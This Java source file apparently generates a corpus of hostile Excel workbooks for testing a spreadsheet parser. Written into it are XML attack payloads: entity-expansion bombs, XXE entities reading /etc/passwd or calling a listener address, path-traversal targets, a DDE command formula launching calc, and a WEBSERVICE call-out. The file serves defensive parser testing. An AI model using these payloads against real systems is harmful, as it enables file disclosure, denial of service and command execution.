package co.ruta.core.sheet;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.function.UnaryOperator;

/** A thousand workbooks that nobody should have to open: each name says what is wrong with it. */
public final class HostileBooks {
    private static final int TRUNCATED = 480;
    private static final int DAMAGED = 480;
    private static final String ROW =
            "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" s=\"1\"><v>46000</v></c></row>";

    private final Map<String, byte[]> all = new LinkedHashMap<>();

    private final String elsewhere;

    private HostileBooks(String elsewhere) {
        this.elsewhere = elsewhere;
    }

    /**
     * Name → bytes.
     *
     * @param elsewhere address that entities, links and formulas of these books name; whoever listens there hears of a book
     *     that was believed
     */
    public static Map<String, byte[]> all(URI elsewhere) {
        HostileBooks books = new HostileBooks(elsewhere.toString());
        books.bombs();
        books.documentTypes();
        books.elsewhere();
        books.notBooks();
        books.dimensions();
        books.formulas();
        books.truncated();
        books.damaged();
        return books.all;
    }

    private static Map<String, String> sound() {
        Map<String, String> parts = Books.parts(ROW);
        parts.put("xl/sharedStrings.xml", "<sst><si><t>texto</t></si></sst>");
        parts.put(
                "xl/styles.xml",
                "<styleSheet><cellXfs><xf numFmtId=\"0\"/><xf numFmtId=\"14\"/></cellXfs></styleSheet>");
        return parts;
    }

    private void add(String name, UnaryOperator<Map<String, String>> change) {
        all.put(name, Books.zip(change.apply(sound())));
    }

    private void put(String name, String part, String text) {
        add(name, parts -> {
            parts.put(part, text);
            return parts;
        });
    }

    private void bombs() {
        for (int megabytes : new int[] {16, 32, 64, 96, 128}) {
            String air = " ".repeat(megabytes * 1024 * 1024);
            put(
                    "bomb of blanks in a sheet, " + megabytes + " MB",
                    "xl/worksheets/sheet2.xml",
                    "<worksheet>" + air + "</worksheet>");
            put(
                    "bomb of blanks in the strings, " + megabytes + " MB",
                    "xl/sharedStrings.xml",
                    "<sst>" + air + "</sst>");
            put(
                    "bomb in one text, " + megabytes + " MB",
                    "xl/sharedStrings.xml",
                    "<sst><si><t>" + air + "</t></si></sst>");
        }
        put("a million strings", "xl/sharedStrings.xml", "<sst>" + "<si><t>x</t></si>".repeat(1_000_000) + "</sst>");
        put(
                "thirteen million characters",
                "xl/sharedStrings.xml",
                "<sst>" + ("<si><t>" + "x".repeat(30_000) + "</t></si>").repeat(430) + "</sst>");
        put(
                "a million cells",
                "xl/worksheets/sheet2.xml",
                "<worksheet><sheetData>" + ("<row>" + "<c><v>1</v></c>".repeat(100) + "</row>").repeat(10_000)
                        + "</sheetData></worksheet>");
        put(
                "a million styles",
                "xl/styles.xml",
                "<styleSheet><cellXfs>" + "<xf numFmtId=\"14\"/>".repeat(1_000_000) + "</cellXfs></styleSheet>");
        put("elements in elements", "xl/worksheets/sheet2.xml", "<a>".repeat(200_000) + "</a>".repeat(200_000));
        put("a hundred thousand attributes", "xl/workbook.xml", "<workbook " + attributes(100_000) + "/>");
        put(
                "a thousand sheets",
                "xl/workbook.xml",
                "<workbook><sheets>" + "<sheet name=\"x\" id=\"r2\"/>".repeat(1_000) + "</sheets></workbook>");
        add("two thousand parts", parts -> {
            for (int i = 0; i < 2_000; i++) {
                parts.put("xl/media/" + i, "");
            }
            return parts;
        });
    }

    private static String attributes(int many) {
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < many; i++) {
            all.append('a').append(i).append("=\"\" ");
        }
        return all.toString();
    }

    private void documentTypes() {
        StringBuilder laughs = new StringBuilder("<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 12; i++) {
            laughs.append("<!ENTITY a")
                    .append(i)
                    .append(" \"")
                    .append(("&a" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        Map<String, String> kinds = Map.of(
                "billion laughs", "<!DOCTYPE x [" + laughs + "]><x>&a11;</x>",
                "a file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                "an address", "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + elsewhere + "\">]><x>&e;</x>",
                "a parameter", "<!DOCTYPE x [<!ENTITY % e SYSTEM \"" + elsewhere + "\"> %e;]><x/>",
                "a document type elsewhere", "<!DOCTYPE x SYSTEM \"" + elsewhere + "x.dtd\"><x/>",
                "quadratic",
                        "<!DOCTYPE x [<!ENTITY e \"" + "x".repeat(50_000) + "\">]><x>" + "&e;".repeat(20_000) + "</x>");
        for (String part : new String[] {
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/worksheets/sheet2.xml",
            "xl/sharedStrings.xml",
            "xl/styles.xml"
        }) {
            kinds.forEach((name, text) -> put(name + " in " + part, part, text));
        }
    }

    private void elsewhere() {
        for (String target : new String[] {
            elsewhere + "x.xml", "file:///etc/passwd", "../../../../etc/passwd", "/etc/passwd", "\\\\host\\x"
        }) {
            put(
                    "sheet at " + target,
                    "xl/_rels/workbook.xml.rels",
                    "<Relationships><Relationship Id=\"r2\" TargetMode=\"External\" Target=\"" + target
                            + "\"/></Relationships>");
            put(
                    "sheet said to be at " + target,
                    "xl/_rels/workbook.xml.rels",
                    "<Relationships><Relationship Id=\"r2\" Target=\"" + target + "\"/></Relationships>");
        }
        for (String part : new String[] {"xl/vbaProject.bin", "vbaProject.bin", "xl/macros/vbaProject.bin"}) {
            put("macros in " + part, part, "x");
        }
    }

    private void notBooks() {
        byte[] old = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        all.put("an old or locked book", Arrays.copyOf(old, 4096));
        all.put("nothing", new byte[0]);
        all.put("a page", "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8));
        all.put("a paper", "%PDF-1.7\n".getBytes(StandardCharsets.UTF_8));
        all.put("a list", "a;b\n1;2\n".getBytes(StandardCharsets.UTF_8));
        all.put("the beginning of an archive", new byte[] {'P', 'K', 3, 4});
        all.put("zeros", new byte[1024 * 1024]);
        all.put("another archive", Books.zip(Map.of("leame.txt", "hola")));
        all.put(
                "a document of text",
                Books.zip(Map.of("word/document.xml", "<x/>", "[Content_Types].xml", "<Types/>")));
        put("a binary book", "xl/workbook.bin", "x");
    }

    private void dimensions() {
        String[] cells = {
            "<c r=\"XFD1\"><v>1</v></c>",
            "<c r=\"ZZZZZZ1\"><v>1</v></c>",
            "<c r=\"ZZZZZZZZZZZZZZZZ1\"><v>1</v></c>",
            "<c r=\"1\"><v>1</v></c>",
            "<c r=\"A1\" t=\"s\"><v>999999999</v></c>",
            "<c r=\"A1\" t=\"s\"><v>-1</v></c>",
            "<c r=\"A1\" s=\"99999999999\"><v>1</v></c>",
            "<c r=\"A1\"><v>1e999999999</v></c>",
            "<c r=\"A1\"><v>NaN</v></c>",
            "<c r=\"A1\"><v>" + "9".repeat(32_000) + "</v></c>",
            "<c><v>1</v></c>".repeat(20_000)
        };
        for (int i = 0; i < cells.length; i++) {
            put(
                    "cells " + i,
                    "xl/worksheets/sheet2.xml",
                    "<worksheet><sheetData><row r=\"1\">" + cells[i] + "</row></sheetData></worksheet>");
        }
        for (String row : new String[] {"2147483647", "2147483648", "-5", "x", "1048577"}) {
            put(
                    "row " + row,
                    "xl/worksheets/sheet2.xml",
                    "<worksheet><sheetData><row r=\"" + row
                            + "\"><c r=\"A1\"><v>1</v></c></row></sheetData></worksheet>");
        }
        put(
                "thirty thousand rows",
                "xl/worksheets/sheet2.xml",
                "<worksheet><sheetData>" + "<row><c><v>1</v></c></row>".repeat(30_000) + "</sheetData></worksheet>");
    }

    private void formulas() {
        for (String formula : new String[] {
            "WEBSERVICE(\"" + elsewhere + "\")",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://x\")",
            "IMPORTXML(1)",
            "[1]Hoja!A1"
        }) {
            put(
                    "formula " + formula.substring(0, 4),
                    "xl/worksheets/sheet2.xml",
                    "<worksheet><sheetData><row r=\"1\"><c r=\"A1\"><f>" + formula.replace("\"", "&quot;")
                            + "</f></c></row></sheetData></worksheet>");
        }
    }

    private void truncated() {
        byte[] sound = Books.zip(sound());
        for (int i = 0; i < TRUNCATED; i++) {
            all.put("cut " + i, Arrays.copyOf(sound, (int) ((long) sound.length * i / TRUNCATED)));
        }
    }

    private void damaged() {
        byte[] sound = Books.zip(sound());
        Random random = new Random(20261127);
        for (int i = 0; i < DAMAGED; i++) {
            byte[] damaged = sound.clone();
            for (int hits = 1 + random.nextInt(12); hits > 0; hits--) {
                damaged[random.nextInt(damaged.length)] = (byte) random.nextInt(256);
            }
            all.put("damaged " + i, damaged);
        }
    }
}
